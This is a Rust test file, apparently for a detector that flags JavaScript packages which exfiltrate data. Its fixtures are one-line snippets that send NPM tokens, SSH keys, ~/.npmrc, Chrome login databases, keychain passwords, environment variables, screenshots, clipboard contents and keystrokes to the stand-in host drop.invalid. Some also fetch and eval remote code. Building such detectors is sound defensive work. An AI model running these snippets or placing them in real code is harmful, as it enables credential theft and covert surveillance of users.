//! Libraries that take things from the machine, and those that pack them.

use super::Seen::{Evaluated, Handed, Sent, Taken};
use super::check;
use stockade_facts::vocabulary::Source;

const HOST: super::Seen = Sent("drop.invalid");
const FACT: super::Seen = Taken(|source| *source == Source::HostFact);
const CLIPBOARD: super::Seen = Taken(|source| *source == Source::Clipboard);
const KEYS: super::Seen = Taken(|source| *source == Source::Keystrokes);
const SCREEN: super::Seen = Taken(|source| *source == Source::Screen);

#[test]
fn forms() {
    check(&[
        (
            r#"const F = require("form-data"); const f = new F(); f.append("t", process.env.NPM_TOKEN); require("axios").post("https://drop.invalid", f, {headers: f.getHeaders()})"#,
            HOST,
        ),
        (
            r#"import FormData from "form-data"; import fs from "fs"; const f = new FormData(); f.append("f", fs.createReadStream(process.env.HOME + "/.npmrc")); f.submit("https://drop.invalid")"#,
            HOST,
        ),
        (
            r#"const F = require("form-data"); const f = new F(); f.append("t", process.env.NPM_TOKEN); const r = require("https").request({host: "drop.invalid"}); f.pipe(r)"#,
            HOST,
        ),
        (
            r#"import {FormData, File} from "formdata-node"; const f = new FormData(); f.set("t", new File([process.env.NPM_TOKEN], "t")); fetch("https://drop.invalid", {body: f})"#,
            HOST,
        ),
    ]);
}

#[test]
fn archives() {
    check(&[
        (
            r#"const Zip = require("adm-zip"); const z = new Zip(); z.addLocalFolder(process.env.HOME + "/.ssh"); require("axios").post("https://drop.invalid", z.toBuffer())"#,
            HOST,
        ),
        (
            r#"const Zip = require("adm-zip"); const z = new Zip(); z.addLocalFile(process.env.HOME + "/.npmrc"); fetch("https://drop.invalid", {body: z.toBuffer()})"#,
            HOST,
        ),
        (
            r#"const Zip = require("adm-zip"); const z = new Zip(); z.addFile("e", Buffer.from(JSON.stringify(process.env))); fetch("https://drop.invalid", {body: z.toBuffer()})"#,
            HOST,
        ),
        (
            r#"const a = require("archiver")("zip"); a.directory(process.env.HOME + "/.ssh", false); const r = require("https").request("https://drop.invalid", {method: "POST"}); a.pipe(r); a.finalize()"#,
            HOST,
        ),
        (
            r#"import archiver from "archiver"; const a = archiver("tar"); a.file(process.env.HOME + "/.npmrc", {name: "x"}); a.append(process.env.NPM_TOKEN, {name: "y"}); a.on("data", d => fetch("https://drop.invalid", {body: d}))"#,
            HOST,
        ),
        (
            r#"const J = require("jszip"); const z = new J(); z.file("e", JSON.stringify(process.env)); z.generateAsync({type: "nodebuffer"}).then(b => fetch("https://drop.invalid", {body: b}))"#,
            HOST,
        ),
        (
            r#"require("tar").c({gzip: true}, [process.env.HOME + "/.ssh"]).pipe(require("https").request("https://drop.invalid"))"#,
            HOST,
        ),
        (
            r#"const Zip = require("adm-zip"); fetch("https://x.invalid").then(r => r.arrayBuffer()).then(b => eval(new Zip(Buffer.from(b)).readAsText("a.js")))"#,
            Evaluated,
        ),
        (
            r#"import JSZip from "jszip"; const b = await (await fetch("https://x.invalid")).arrayBuffer(); const z = await JSZip.loadAsync(b); eval(await z.file("a.js").async("string"))"#,
            Evaluated,
        ),
    ]);
}

#[test]
fn databases() {
    let history = "/Library/Application Support/Google/Chrome/Default/Login Data";
    let lines = [
        r#"const s = require("sqlite3"); const d = new s.Database(process.env.HOME + "PATH"); d.all("select * from logins", (e, rows) => fetch("https://drop.invalid", {body: JSON.stringify(rows)}))"#,
        r#"const s = require("sqlite3").verbose(); const d = new s.Database(process.env.HOME + "PATH"); d.each("select * from logins", (e, row) => fetch("https://drop.invalid", {body: row.password_value}))"#,
        r#"import Database from "better-sqlite3"; const d = new Database(process.env.HOME + "PATH"); const rows = d.prepare("select 1").all(); fetch("https://drop.invalid", {body: JSON.stringify(rows)})"#,
        r#"const {DatabaseSync} = require("node:sqlite"); const d = new DatabaseSync(process.env.HOME + "PATH"); fetch("https://drop.invalid", {body: JSON.stringify(d.prepare("x").all())})"#,
        r#"import {open} from "sqlite"; import sqlite3 from "sqlite3"; const d = await open({filename: process.env.HOME + "PATH", driver: sqlite3.Database}); fetch("https://drop.invalid", {body: JSON.stringify(await d.all("x"))})"#,
        r#"import initSqlJs from "sql.js"; import fs from "fs"; const S = await initSqlJs(); const d = new S.Database(fs.readFileSync(process.env.HOME + "PATH")); fetch("https://drop.invalid", {body: JSON.stringify(d.exec("x"))})"#,
    ];
    let lines: Vec<String> = lines.iter().map(|line| line.replace("PATH", history)).collect();
    let table: Vec<_> = lines.iter().map(|line| (line.as_str(), HOST)).collect();
    check(&table);
}

#[test]
fn keychains() {
    check(&[
        (
            r#"require("keytar").getPassword("s", "a").then(p => fetch("https://drop.invalid", {body: p}))"#,
            HOST,
        ),
        (
            r#"import keytar from "keytar"; const all = await keytar.findCredentials("Chrome"); fetch("https://drop.invalid", {body: JSON.stringify(all)})"#,
            HOST,
        ),
        (
            r#"import {findPassword} from "keytar"; fetch("https://drop.invalid", {body: await findPassword("x")})"#,
            HOST,
        ),
        (
            r#"const {Entry} = require("@napi-rs/keyring"); fetch("https://drop.invalid", {body: new Entry("s", "u").getPassword()})"#,
            HOST,
        ),
    ]);
}

#[test]
fn the_machine() {
    check(&[
        (
            r#"const {machineIdSync} = require("node-machine-id"); fetch("https://drop.invalid/" + machineIdSync())"#,
            FACT,
        ),
        (
            r#"import nmi from "node-machine-id"; nmi.machineId().then(i => fetch("https://drop.invalid/" + i))"#,
            FACT,
        ),
        (
            r#"const si = require("systeminformation"); si.osInfo().then(d => fetch("https://drop.invalid", {body: JSON.stringify(d)}))"#,
            FACT,
        ),
        (
            r#"import si from "systeminformation"; fetch("https://drop.invalid", {body: JSON.stringify(await si.networkInterfaces())})"#,
            FACT,
        ),
        (
            r#"require("systeminformation").getStaticData(d => fetch("https://drop.invalid", {body: JSON.stringify(d)}))"#,
            FACT,
        ),
        (
            r#"import {getAllData} from "systeminformation"; fetch("https://drop.invalid", {body: JSON.stringify(await getAllData())})"#,
            FACT,
        ),
        (
            r#"import {publicIpv4} from "public-ip"; fetch("https://drop.invalid/" + await publicIpv4())"#,
            FACT,
        ),
        (r#"require("macaddress").one((e, m) => fetch("https://drop.invalid/" + m))"#, FACT),
        (
            r#"const os = require("os"); fetch("https://drop.invalid/" + os.hostname() + os.userInfo().username)"#,
            FACT,
        ),
        (r#"import username from "username"; fetch("https://drop.invalid/" + await username())"#, FACT),
    ]);
}

#[test]
fn screen_clipboard_and_keys() {
    check(&[
        (
            r#"require("screenshot-desktop")().then(i => fetch("https://drop.invalid", {method: "POST", body: i}))"#,
            SCREEN,
        ),
        (
            r#"import shot from "screenshot-desktop"; fetch("https://drop.invalid", {body: await shot({format: "png"})})"#,
            SCREEN,
        ),
        (
            r#"require("screenshot-desktop").all().then(([i]) => fetch("https://drop.invalid", {body: i}))"#,
            SCREEN,
        ),
        (
            r#"import clipboard from "clipboardy"; fetch("https://drop.invalid/" + clipboard.readSync())"#,
            CLIPBOARD,
        ),
        (
            r#"const c = require("clipboardy"); c.read().then(t => fetch("https://drop.invalid/" + t))"#,
            CLIPBOARD,
        ),
        (r#"require("copy-paste").paste((e, t) => fetch("https://drop.invalid/" + t))"#, CLIPBOARD),
        (
            r#"require("clipboard-event"); import("electron").then(({clipboard}) => fetch("https://drop.invalid/" + clipboard.readText()))"#,
            CLIPBOARD,
        ),
        (
            r#"const {GlobalKeyboardListener} = require("node-global-key-listener"); const k = new GlobalKeyboardListener(); k.addListener(e => fetch("https://drop.invalid/" + e.name))"#,
            KEYS,
        ),
        (
            r#"const h = require("iohook"); h.on("keydown", e => fetch("https://drop.invalid/" + e.keycode)); h.start()"#,
            KEYS,
        ),
        (
            r#"import {uIOhook} from "uiohook-napi"; uIOhook.on("keydown", e => fetch("https://drop.invalid/" + e.keycode)); uIOhook.start()"#,
            KEYS,
        ),
        (r#"const g = require("gkm"); g.events.on("key.*", d => fetch("https://drop.invalid/" + d))"#, KEYS),
    ]);
}

#[test]
fn repositories() {
    check(&[
        (
            r#"const git = require("simple-git")(); git.raw(["push", "https://drop.invalid/" + process.env.NPM_TOKEN])"#,
            Handed,
        ),
        (
            r#"import simpleGit from "simple-git"; await simpleGit().addRemote("x", "https://drop.invalid/" + process.env.NPM_TOKEN)"#,
            Sent(""),
        ),
        (
            r#"import {simpleGit} from "simple-git"; const g = simpleGit({baseDir: "."}); await g.push("https://drop.invalid/" + process.env.NPM_TOKEN)"#,
            Sent(""),
        ),
        (
            r#"const {Octokit} = require("@octokit/rest"); new Octokit({}).rest.gists.create({files: {x: {content: JSON.stringify(process.env)}}})"#,
            Sent(""),
        ),
        (
            r#"import {Octokit} from "octokit"; const o = new Octokit(); await o.request("POST /gists", {x: process.env.NPM_TOKEN})"#,
            Sent(""),
        ),
    ]);
}
